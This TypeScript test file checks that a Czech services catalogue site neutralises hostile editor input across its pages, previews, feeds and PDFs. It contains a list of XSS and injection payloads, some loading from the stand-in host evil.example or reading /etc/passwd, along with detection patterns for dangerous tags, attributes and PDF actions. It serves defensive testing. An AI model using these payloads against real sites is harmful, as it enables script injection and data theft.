import { parse } from 'node-html-parser';
import { getDocumentProxy } from 'unpdf';
import { describe, expect, it } from 'vitest';
import { previewOf } from '~/cms/preview/pages.ts';
import { siteIn } from '~/components/site/site.ts';
import { iconsFrom } from '~/components/ui/icon.ts';
import { toAtom } from '~/exports/atom.ts';
import { freshnessNews } from '~/exports/freshness.ts';
import { freshnessOf } from '~/data/freshness.ts';
import { freshnessReport } from '~/components/freshness/report.ts';
import { freshnessWords } from '~/i18n/freshness.ts';
import { getPrinter } from '~/print/printer.ts';
import type { CollectionName } from '~/schema/collections.ts';
import { servicePapers } from '~/sheets/papers.ts';
import { serviceAddresses } from '~/sheets/service.ts';
import { listAddresses } from '~/sheets/lists.ts';
import { textAddresses } from '~/sheets/text.ts';
import { catalogueOf, entry, TODAY } from './fixtures/entries.ts';

// What an editor who means ill, or whose account somebody stole, could write into a text, through every way out of it.

/** What must run nothing and load nothing from elsewhere. */
const ATTACKS = [
  '<script src="https://evil.example/a.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=q><button>Dál</button></form>',
  '<details open ontoggle=alert(1)>',
  '[klik](javascript:alert(1))',
  '[klik](JaVa\tScRiPt:alert(1))',
  '[klik](&#x6A;avascript&colon;alert(1))',
  '[klik](vbscript:msgbox(1))',
  '[klik](data:text/html;base64,PHNjcmlwdD4=)',
  '[klik](file:///etc/passwd)',
  '![oko](https://evil.example/pixel.png)',
  '![oko](//evil.example/pixel.png)',
  '![oko](/\\evil.example/pixel.png)',
  '![oko](data:image/svg+xml,<svg onload=alert(1)>)',
  '![oko][e]\n\n[e]: https://evil.example/pixel.png',
  '[klik](https://example.org "x\\" onmouseover=\\"alert(1)")',
  '<a href="x" onclick="alert(1)">a</a>',
  '```"><script>alert(1)</script>\nx\n```',
  '| a |\n| --- |\n| <script>alert(1)</script> |',
  ']]><script>alert(1)</script><![CDATA[',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
  '#raw("x") #link("javascript:alert(1)")[x] #image("https://evil.example/a.png") #read("/etc/passwd")',
];
const EVIL = ATTACKS.join('\n\n');

/** One line, where formatted text is not possible; the schema lets no tag into it. */
const LINE = '"onmouseover=alert(1) x=" javascript:alert(1) #read("/etc/passwd")';

const catalogue = catalogueOf(
  entry('services', 'poradna', {
    name: LINE,
    summary: LINE,
    description: EVIL,
    steps: [LINE],
    provider: 'domov',
    photo: { file: '/uploads/a.jpg', alt: LINE },
    files: [{ name: LINE, file: '/uploads/a.pdf' }],
    lifeSituations: ['nouze'],
    translations: { en: { name: LINE, description: EVIL } },
  }),
  entry('life-situations', 'nouze', { name: LINE, steps: [LINE] }, EVIL),
  entry('pages', 'o-nas', { name: LINE, translations: { en: { body: EVIL } } }, EVIL),
);
const siteOf = (locale: 'cs' | 'en') => siteIn(locale, { catalogue, holidays: [], today: TODAY, icon: iconsFrom({}) });

const RUNS = /^(script|iframe|object|embed|link|style|meta|base|frame|frameset|applet|math|portal)$/i;
const LOADS = ['src', 'srcset', 'poster', 'data', 'background', 'style', 'srcdoc', 'action', 'formaction'];

/** What in a piece of HTML could run something, or load something from elsewhere. */
const dangers = (html: string) => [
  // A slash parts attributes too, for browsers and not for the parser.
  ...(html.match(/<\w+\/+on\w+/gi) ?? []),
  ...parse(html)
    .querySelectorAll('*')
    .flatMap(({ tagName, attributes }) => [
      ...(RUNS.test(tagName) ? [tagName] : []),
      ...Object.entries(attributes)
        .filter(([name, value]) => isDangerous(name.toLowerCase(), value))
        .map(([name, value]) => `${tagName} ${name}=${value}`),
    ]),
];

function isDangerous(name: string, value: string): boolean {
  if (name.startsWith('on')) return true;
  if (LOADS.includes(name)) return !/^\/(?![/\\])/.test(value);
  return /^(xlink:)?href$/.test(name) && !/^(https?:|mailto:|tel:|sms:|geo:|\/(?![/\\])|#|\?|$)/i.test(value);
}

it('a page with such things in it is known when it is seen', () => {
  const bare = ATTACKS.filter((one) => /^<(?!a )/.test(one));
  expect(bare.filter((one) => dangers(one).length === 0)).toEqual([]);
  expect(dangers('<a href="javascript:alert(1)">x</a>')).toHaveLength(1);
  expect(dangers('<img src="//evil.example/a.png">')).toHaveLength(1);
});

describe('what an editor writes runs nothing and loads nothing from elsewhere', () => {
  it.each(['cs', 'en'] as const)('on the pages of the site in %s', (locale) => {
    const site = siteOf(locale);
    const pages = [...serviceAddresses(site), ...listAddresses(site), ...textAddresses(site)];
    const texts = pages.map(({ make }) => make().main.text);
    expect(texts.join('')).toContain('evil.example');
    expect(texts.flatMap(dangers)).toEqual([]);
  });

  const facts = { name: '', town: '', language: 'cs', country: 'CZ', timeZone: 'Europe/Prague', staleAfterMonths: 12 };
  const anything = { name: EVIL, summary: EVIL, description: EVIL, body: EVIL, steps: [EVIL], characteristics: EVIL };

  it.each<CollectionName>(['services', 'providers', 'life-situations', 'pages', 'plan-measures', 'plan-chapters'])(
    'in the preview of %s, where not even the schema has looked yet',
    (name) => {
      const preview = previewOf(name, { ...anything, number: LINE, photo: { file: EVIL, alt: EVIL } }, facts, TODAY);
      expect(dangers(preview)).toEqual([]);
    },
  );

  const evil = {
    ...entry('services', 'zla', { provider: 'domov', verifiedOn: '2020-01-01' }),
    file: 'services/zla.yaml',
  };
  const freshness = freshnessOf({ entries: [{ ...evil, data: { ...evil.data, name: EVIL } }] }, TODAY);
  const say = freshnessWords('cs');
  const sender = { catalogue: EVIL, office: [EVIL], date: (day: string) => day, page: () => undefined };

  it('in the report on freshness, and in letters from it', () => {
    const voice = { say, sender, localeName: String, feed: '/a.atom', canVisit: true, href: () => '/admin/' };
    const { text } = freshnessReport(freshness, voice);
    expect(text).toContain('evil.example');
    expect(dangers(text)).toEqual([]);
  });

  it('in feeds, where it is text of well-formed XML', () => {
    const names = { root: 'urn:x', date: String, month: String, nameOf: String, href: undefined };
    const entries = freshnessNews(freshness, say, names);
    const xml = toAtom({
      id: 'urn:x',
      title: EVIL,
      author: EVIL,
      language: 'cs',
      self: undefined,
      href: undefined,
      day: TODAY,
      entries,
    });
    expect(xml).toContain('evil.example');
    expect(xml.match(/<(?!\/?(feed|id|title|updated|author|name|entry|summary|link)\b|\?xml)/g)).toEqual(null);
    expect(xml).not.toMatch(/type="x?html"|<!\[CDATA\[|]]>(?!&gt;)/);
  });

  it('in a PDF, which can do no more than be read', async () => {
    const [paper] = servicePapers(siteOf('cs'), undefined);
    if (!paper) throw new Error('There is no paper.');
    const pdf = getPrinter().pdf(paper.template, { ...paper.data(), ...paper.stamp });
    // What is compressed may look like anything; the reader below unpacks it.
    const bare = pdf.toString('latin1').replaceAll(/\bstream\r?\n[^]*?endstream/g, '');
    expect(bare).not.toMatch(/\/(JavaScript|JS|Launch|SubmitForm|ImportData|GoToR|GoToE|EmbeddedFile|RichMedia|AA)\b/);
    const document = await getDocumentProxy(new Uint8Array(pdf));
    expect(await document.getJSActions()).toBeNull();
    expect(await document.getOpenAction()).toBeNull();
    expect(await document.getAttachments()).toBeNull();
    const links: string[] = [];
    for (let number = 1; number <= document.numPages; number++) {
      const notes = (await (await document.getPage(number)).getAnnotations()) as { url?: string; unsafeUrl?: string }[];
      links.push(...notes.flatMap(({ url, unsafeUrl }) => unsafeUrl ?? url ?? []));
    }
    expect(links.filter((link) => !/^(https?:|mailto:|tel:)/.test(link))).toEqual([]);
  });
});
